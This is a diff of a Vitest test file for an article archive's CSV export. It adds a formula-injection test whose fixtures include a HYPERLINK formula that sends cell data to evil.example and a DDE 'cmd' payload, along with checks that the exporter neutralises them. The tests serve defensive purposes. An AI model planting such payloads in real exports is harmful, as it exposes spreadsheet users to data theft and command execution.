@@ -1,4 +1,3 @@
-import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { buildArchive, type ArticleEntryLike } from '../../src/model/archive';
 import {
@@ -13,6 +12,7 @@ import {
 } from '../../src/model/open-data';
 import { articleSchema, type ArticleInput } from '../../src/model/schema';
 import { URLS } from '../support/model';
+import { readCsv, spreadsheetRuns } from '../support/readers';
 
 function articleOf(data: Partial<ArticleInput> = {}) {
   const entry: ArticleEntryLike = {
@@ -61,23 +61,43 @@ describe('articleRow', () => {
 });
 
 describe('toCsv', () => {
-  it('quotes commas, quotes and line breaks so that a CSV parser reads the values back', () => {
+  it('quotes commas, quotes and line breaks so that two CSV parsers read the values back', () => {
     const title = 'Talks on "trade", energy,\nand water';
     const rows = [articleRow(articleOf({ title }), context), articleRow(articleOf(), context)];
-    const csv = toCsv(rows);
-    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
-    expect(parsed.errors).toEqual([]);
-    expect(parsed.meta.fields).toEqual(ARTICLE_COLUMNS.map((c) => c.key));
-    expect(parsed.data).toHaveLength(2);
-    expect(parsed.data[0]!['title']).toBe(title);
-    expect(parsed.data[0]!['leaders']).toBe('kassym-jomart-tokayev; emomali-rahmon');
-    expect(parsed.data[0]!['author']).toBe('');
+    const data = readCsv(toCsv(rows));
+    expect(Object.keys(data[0]!)).toEqual(ARTICLE_COLUMNS.map((c) => c.key));
+    expect(data).toHaveLength(2);
+    expect(data[0]!['title']).toBe(title);
+    expect(data[0]!['leaders']).toBe('kassym-jomart-tokayev; emomali-rahmon');
+    expect(data[0]!['author']).toBe('');
   });
 
-  it('ends every record, the last one too, with CRLF', () => {
+  it('starts with a byte order mark and the header, and ends every record, the last one too, with CRLF', () => {
     const csv = toCsv([articleRow(articleOf(), context)]);
+    expect(csv.startsWith('\uFEFFid,url,title,')).toBe(true);
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(csv.split('\r\n')).toHaveLength(3);
+  });
+
+  it('writes no cell a spreadsheet would run, keeping the text and numbers', () => {
+    const article = articleOf({
+      title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      summary: "+1+cmd|' /C calc'!A0",
+      author: '@SUM(1+1)',
+      source: { name: '-Kazinform', licence: ' =CC BY' },
+      tags: ['=tag', 'Energy'],
+    });
+    const [row] = readCsv(toCsv([articleRow(article, { ...context, wordCount: 7 })]));
+    for (const [column, cell] of Object.entries(row!)) expect(spreadsheetRuns(cell), column).toBe(false);
+    expect(row).toMatchObject({
+      title: '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      summary: "'+1+cmd|' /C calc'!A0",
+      author: "'@SUM(1+1)",
+      source: "'-Kazinform",
+      licence: "'=CC BY",
+      tags: "'=tag; Energy",
+      word_count: '7',
+    });
   });
 });
 
